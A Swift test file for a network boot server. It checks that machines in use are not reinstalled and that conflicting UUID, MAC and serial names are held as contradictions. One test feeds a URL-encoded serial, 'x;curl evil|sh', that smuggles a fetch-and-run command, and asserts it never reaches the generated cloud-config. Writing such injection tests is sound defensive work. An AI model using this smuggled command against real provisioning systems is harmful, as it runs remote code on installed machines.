// BootServerTests/Rows: the small inputs that installed over a machine in use, by HTTP.
// SPDX-License-Identifier: Apache-2.0

import Foundation
import TestSupport
import Testing

@testable import BootServer

/// What is done to a server, one after another, and what each board gets.
///
/// Boards and names are words: `u1 m1 s1` says a UUID, a MAC that profile `core` takes, and a serial;
/// `x2` is a MAC that no profile takes, `f` a serial that its vendor did not fill in.
private enum Step: CustomTestStringConvertible {
  enum Got { case installer, disk, contradiction, unmatched }

  /// A board boots, as often as its firmware likes.
  case boot(String, Got)
  /// It boots, and its installer reports both.
  case install(String)
  /// A person puts a record there, or changes it.
  case put(String, String)
  case patch(String, String)

  var testDescription: String {
    switch self {
    case .boot(let words, let got): "\(words) boots: \(got)"
    case .install(let words): "\(words) is installed"
    case .put(let name, let body): "PUT \(name) \(body)"
    case .patch(let name, let body): "PATCH \(name) \(body)"
    }
  }
}

/// A row of faults/README.md.
private struct Row: CustomTestStringConvertible {
  let number: String
  let steps: [Step]
  var testDescription: String { "row \(number)" }

  init(_ number: String, _ steps: Step...) {
    self.number = number
    self.steps = steps
  }
}

/// A lab in which boards have names of one letter and a number.
private struct RowLab {
  let lab: MachineLab

  static func name(_ word: Substring) -> (key: String, value: String) {
    let number = Int(word.dropFirst()) ?? 0
    switch word.first {
    case "u": return ("uuid", MachineLab.uuid(number))
    case "m": return ("mac", MachineLab.mac(number))
    case "x": return ("mac", MachineLab.mac(number, vendor: "00-16-3e"))
    case "s": return ("serial", "SN-100\(number)")
    default: return ("serial", "To%20be%20filled%20by%20O.E.M.")
    }
  }

  static func query(_ words: String) -> String {
    words.split(separator: " ").map { name($0) }.map { "\($0.key)=\($0.value)" }
      .joined(separator: "&")
  }

  func got(_ answer: Answer) -> Step.Got? {
    if answer.status == 200 {
      return answer.text.contains("sanboot")
        ? .disk : answer.text.contains("production_pxe") ? .installer : nil
    }
    guard answer.status == 503, answer["retry-after"] == "5" else { return nil }
    if answer.text.contains("no profile takes it") { return .unmatched }
    let isContradiction =
      answer.text.contains("is that of a machine in use; coreos-ipxe-server ")
      || answer.text.contains("its uuid is that of a machine which has another mac")
    return isContradiction ? .contradiction : nil
  }

  func carryOut(_ step: Step) throws {
    switch step {
    case .boot(let words, let expected):
      for _ in 0..<2 {
        let answer = try lab.boot(Self.query(words))
        #expect(got(answer) == expected, "\(step.testDescription): \(answer.text)")
      }
    case .install(let words):
      let script = try lab.boot(Self.query(words))
      #expect(got(script) == .installer, "\(step.testDescription): \(script.text)")
      let report = try lab.reportURL("installed", in: try #require(MachineLab.config(script)))
      #expect(try lab.server.get(report, method: "POST").status == 204)
      let running = report.replacing("/installed", with: "/running")
      #expect(try lab.server.get(running, method: "POST").status == 204)
    case .put(let name, let body):
      #expect(try lab.api("PUT", "/machines/\(Self.name(name[...]).value)", body).status == 201)
    case .patch(let name, let body):
      #expect(try lab.api("PATCH", "/machines/\(Self.name(name[...]).value)", body).status == 200)
    }
  }
}

@Suite("A machine in use, by HTTP", .waits)
struct RowTests {
  private static let running = #"{"profile":"core","state":"running"}"#
  private static let rows = [
    Row("1", .put("m1", running), .boot("u9 m1", .disk), .boot("u1 m1", .disk)),
    Row("2", .install("u1 m1 s1"), .boot("u2 m2 s1", .contradiction), .boot("u1 m1 s1", .disk)),
    Row("3", .install("u1 m1 s1"), .boot("m2 s1", .contradiction), .boot("u1 m1 s1", .disk)),
    Row(
      "3, the other way", .install("m1 s1"), .boot("u1 m2 s1", .contradiction),
      .boot("m1 s1", .disk)),
    Row("4", .install("u1 m1"), .boot("u2 m1", .contradiction), .boot("u1 m1", .disk)),
    Row(
      "5", .install("u1 m1 s1"), .boot("u1 m2 s2", .contradiction),
      .patch("u1", #"{"state":"configured"}"#), .boot("u1 m2 s2", .contradiction),
      .boot("u1 m1 s1", .installer)),
    Row(
      "9a", .put("m1", running), .boot("u1 x2", .unmatched), .boot("u1 m1", .disk),
      .boot("u1 x2", .contradiction), .boot("u1 m1", .disk)),
    Row("9b", .install("u1 m1 f"), .boot("u2 m1 s2", .contradiction), .boot("u1 m1 f", .disk)),
    Row(
      "9d", .boot("u1 m1 s1", .installer), .boot("u1 m2 s2", .contradiction),
      .boot("u1 m1 s1", .installer)),
  ]

  @Test(arguments: rows)
  private func `is not installed over`(row: Row) throws {
    let lab = RowLab(lab: try MachineLab())
    for step in row.steps { try lab.carryOut(step) }
  }

  /// Row 1: what a request told binds nothing for good.
  @Test func `takes no name from a request`() throws {
    let lab = RowLab(lab: try MachineLab())
    try lab.carryOut(.put("m1", Self.running))
    try lab.carryOut(.boot("u9 m1", .disk))
    let record = try lab.lab.record("52-54-00-00-00-01")
    #expect(record["uuid"] is NSNull && record["told"] as? [[String: String]] != [])
  }

  /// Row 2: the line for the operator says how to decide, the client's names nobody else.
  @Test func `is told of with the commands that decide`() throws {
    let lab = RowLab(lab: try MachineLab())
    try lab.carryOut(.install("u1 m1 s1"))
    let answer = try lab.lab.boot(RowLab.query("u2 m2 s1"))
    for name in [MachineLab.uuid(1), "52-54-00-00-00-01", "52:54:00:00:00:01", "SN-1001"] {
      #expect(!answer.text.contains(name))
    }
    let new = MachineLab.uuid(2)
    #expect(lab.lab.server.logHolds("machines doubts --same \(new)"))
    #expect(lab.lab.server.logHolds("machines claim \(new) --profile NAME"))
    #expect(try lab.lab.record(new)["profile"] is NSNull)
    let held = try lab.lab.record(new)["held"] as? [String: String]
    #expect(held?["reason"] == "contradiction")
    try lab.carryOut(.patch("u2", #"{"profile":"core"}"#))
    try lab.carryOut(.boot("u2 m2 s1", .installer))
  }

  /// Several records fit: each of them says so, and the way out that the log names works.
  @Test func `is shown at every record that fits`() throws {
    let lab = RowLab(lab: try MachineLab())
    try lab.carryOut(.put("m1", #"{"profile":"core"}"#))
    try lab.carryOut(.put("u1", #"{"profile":"core"}"#))
    let answer = try lab.lab.boot(RowLab.query("u1 m1"))
    #expect(answer.status == 503 && answer.text.contains("several machines"), "\(answer.text)")
    for name in [MachineLab.uuid(1), "52-54-00-00-00-01"] {
      let held = try lab.lab.record(name)["held"] as? [String: String]
      #expect(held?["reason"] == "contradiction", "\(name)")
    }
    #expect(lab.lab.server.logHolds("by=contradiction"))
    try lab.carryOut(.patch("m1", #"{"macs":[]}"#))
    try lab.carryOut(.boot("u1 m1", .installer))
  }

  /// Row 15: `{{machine.serial}}` in its `runcmd` is no stranger's.
  @Test func `keeps the serial that it has`() throws {
    let template = "#cloud-config\nserial: \"{{machine.serial}}\"\nat: {{machine.installed_url}}\n"
    let lab = RowLab(lab: try MachineLab(["configs/inst.yml.tmpl": template]))
    let evil = "&serial=x%3Bcurl%20evil%7Csh"
    let script = try lab.lab.boot(RowLab.query("u1 m1 s1"))
    let stranger = try lab.lab.boot(RowLab.query("u1 m9") + evil)
    #expect(lab.got(stranger) == .contradiction, "\(stranger.text)")
    let same = try lab.lab.boot(RowLab.query("u1 m1") + evil)
    #expect(lab.got(same) == .installer && same.text == script.text)
    let config = try lab.lab.server.get(try #require(MachineLab.config(script)))
    #expect(config.text.contains("serial: \"SN-1001\"\n") && !config.text.contains("evil"))
    // It is found by the serial that it has, not by the one that was told.
    #expect(try lab.lab.record("SN-1001")["id"] as? String == MachineLab.uuid(1))
    #expect(try lab.lab.api("GET", "/machines/x%3Bcurl%20evil%7Csh").status == 404)
  }
}
